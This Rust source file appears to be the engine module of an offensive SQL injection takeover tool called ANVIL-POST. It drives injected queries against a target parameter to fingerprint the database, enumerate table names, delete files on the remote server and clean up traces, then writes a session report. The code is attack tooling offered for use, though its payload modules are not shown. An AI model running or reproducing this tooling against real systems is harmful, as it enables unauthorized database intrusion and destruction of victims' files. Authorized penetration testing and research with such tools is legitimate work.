//! ANVIL-POST engine
//!
//! Wires the HTTP injection channel to the takeover operations and runs the
//! requested actions against one target.

use crate::core::context::{Context, PromptMode};
use crate::core::rate_limit::RateLimiter;
use crate::http::client::HttpClient;
use crate::reporting::model::SessionReport;
use crate::sqli::core::{Agent, Queries};
use crate::sqli::executor::{CommandExecutor, InjectionExecutor};
use crate::sqli::request::Request;
use crate::sqli::takeover::{
    BatchPrompt, MatchMode, Prompt, QueryProber, ScriptedPrompt, Session, StdinPrompt, Takeover,
    TakeoverError,
};

pub struct Engine {
    ctx: Context,
}

impl Engine {
    pub fn new(ctx: Context) -> anyhow::Result<Self> {
        Ok(Self { ctx })
    }

    pub async fn run(&self) -> anyhow::Result<()> {
        tracing::info!("Starting ANVIL-POST against {}", self.ctx.target);
        tracing::info!("Back-end DBMS: {}", self.ctx.session.backend.dbms);

        let limiter = RateLimiter::new(self.ctx.rate_limit);
        let client = HttpClient::new(
            self.ctx.scope.clone(),
            limiter,
            self.ctx.cookies.clone(),
            self.ctx.headers.clone(),
            self.ctx.timeout,
        )?;

        let request = Request::new(&client, self.ctx.target.clone(), self.ctx.parameter.clone());
        let agent = Agent::new(self.ctx.session.backend.dbms)
            .with_boundaries(self.ctx.prefix.as_deref(), self.ctx.suffix.as_deref());
        let executor = InjectionExecutor::new(request, agent, self.ctx.union);
        let prober = QueryProber::new(&executor, self.ctx.session.config.direct);

        let prompt: Box<dyn Prompt> = match &self.ctx.prompt_mode {
            PromptMode::Interactive => Box::new(StdinPrompt),
            PromptMode::Batch => Box::new(BatchPrompt),
            PromptMode::Scripted(answers) => Box::new(ScriptedPrompt::new(answers.clone())),
        };

        let takeover = Takeover::new(&executor, &prober, prompt.as_ref());
        let mut session = self.ctx.session.clone();
        let mut report = SessionReport::new(self.ctx.target.as_str());

        let outcome = self.run_actions(&takeover, &executor, &mut session, &mut report).await;

        report.absorb(&session);
        self.emit(&report)?;

        outcome.map_err(Into::into)
    }

    async fn run_actions(
        &self,
        takeover: &Takeover<'_>,
        executor: &dyn CommandExecutor,
        session: &mut Session,
        report: &mut SessionReport,
    ) -> Result<(), TakeoverError> {
        let actions = &self.ctx.actions;

        if actions.resolve_tmp_path || !actions.del_files.is_empty() {
            let path = takeover.resolve_temp_path(session).await;
            tracing::info!("remote temporary directory: {}", path);
        }

        if actions.banner_version {
            takeover.version_from_banner(session).await?;
        }

        if let Some(name) = &actions.search_table {
            report.matched_tables = Some(search_tables(takeover, executor, session, name).await?);
        }

        for path in &actions.del_files {
            takeover.del_remote_file(session, path).await?;
            report.deleted_files.push(path.clone());
        }

        if actions.cleanup || actions.cleanup_artifacts {
            let cleanup = takeover.cleanup(session, actions.cleanup_artifacts, None).await?;
            if cleanup.skipped {
                tracing::warn!("cleanup needs stacked queries; nothing was removed");
            }
            report.cleanup = Some(cleanup);
        }

        Ok(())
    }

    fn emit(&self, report: &SessionReport) -> anyhow::Result<()> {
        let rendered = match self.ctx.output_format.as_str() {
            "json" => crate::reporting::json::render(report)?,
            _ => crate::reporting::text::render(report),
        };

        match &self.ctx.output_file {
            Some(output_file) => {
                std::fs::write(output_file, &rendered)?;
                println!("\n📄 Report saved to: {}", output_file);
            }
            None => println!("\n{}", rendered),
        }
        Ok(())
    }
}

/// Table names matching `name` under the operator's matching mode
async fn search_tables(
    takeover: &Takeover<'_>,
    executor: &dyn CommandExecutor,
    session: &Session,
    name: &str,
) -> Result<Vec<String>, TakeoverError> {
    let dbms = session.backend.identified_dbms()?;
    let (mode, _) = takeover.like_or_exact("table")?;

    let query = Queries::new(dbms)
        .search_tables(&mode.condition(name))
        .ok_or_else(|| TakeoverError::UnsupportedFeature(format!("table search on {}", dbms)))?;

    tracing::info!(
        "searching tables {} '{}'",
        if mode == MatchMode::Like { "like" } else { "named" },
        name
    );

    let found = executor.injected_query(&query, false).await?;
    let tables: Vec<String> = found
        .unwrap_or_default()
        .split('|')
        .map(str::trim)
        .filter(|t| !t.is_empty())
        .map(str::to_string)
        .collect();

    if tables.is_empty() {
        return Err(TakeoverError::NoData(format!("no table matches '{}'", name)));
    }
    Ok(tables)
}
